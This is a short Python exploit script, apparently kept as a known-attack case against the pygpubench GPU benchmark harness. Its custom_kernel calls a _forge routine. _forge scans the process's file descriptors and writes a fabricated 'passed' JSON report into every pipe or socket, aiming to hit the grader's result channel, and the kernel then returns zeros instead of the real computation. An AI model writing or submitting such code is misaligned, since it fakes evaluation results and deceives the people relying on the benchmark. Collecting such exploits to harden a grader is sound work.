# Exploit (issue 18, class 2; pygpubench's fd overwrite and thread fd): write a passing report into
# every descriptor the process holds (pipes, sockets: the result channel, if it holds it), then
# return zeros.
import json
import os
import stat
import struct

REPORT = {"schema": 1, "passed": True, "status": "passed", "exit_code": 0, "flags": [], "cases": []}
FAKE_LINE = (json.dumps({"report": REPORT}) + "\n").encode()


def _forge():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            mode = os.fstat(fd).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                body = json.dumps({"seq": 1, "out": {"k": "value", "v": 0}, "report": REPORT}).encode()
                os.write(fd, struct.pack("!Q", len(body)) + body + FAKE_LINE)
        except OSError:
            pass


def custom_kernel(data):
    _forge()
    A, B, C = data
    C.zero_()
    return C
